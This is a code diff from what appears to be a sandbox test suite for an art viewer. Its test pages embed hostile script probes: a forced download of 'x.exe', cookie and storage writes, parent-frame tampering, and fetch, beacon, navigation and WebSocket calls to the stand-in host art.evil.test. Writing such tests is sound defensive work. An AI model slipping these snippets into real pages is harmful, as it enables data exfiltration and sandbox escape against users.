@@ -25,7 +25,7 @@ const pages: Partial<Record<Behaviour, string>> = {
   'art-download.html': art('attempt(() => { const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.exe"; a.click() })'),
   'art-message.html': art('setInterval(() => parent.postMessage({ type: "tonlens", pwned: 1 }, "*"), 5)'),
   'art-storage.html': art('attempt(() => localStorage.setItem("pwned", "1")); attempt(() => { document.cookie = "pwned=1" })'),
-  'art-fetch.html': art('attempt(() => fetch("http://art.evil.test/fetch")); attempt(() => { new Image().src = "http://art.evil.test/image" }); attempt(() => navigator.sendBeacon("http://art.evil.test/beacon")); attempt(() => { location = "http://art.evil.test/go" }); attempt(() => new WebSocket("ws://art.evil.test/"))'),
+  'art-fetch.html': art('attempt(() => fetch("http://art.evil.test/fetch").catch(() => {})); attempt(() => { new Image().src = "http://art.evil.test/image" }); attempt(() => navigator.sendBeacon("http://art.evil.test/beacon")); attempt(() => { location = "http://art.evil.test/go" }); attempt(() => new WebSocket("ws://art.evil.test/"))'),
   'image-as-html.html': '<!doctype html><script>try { parent.pwned=1 } catch {}</script>',
 }
 
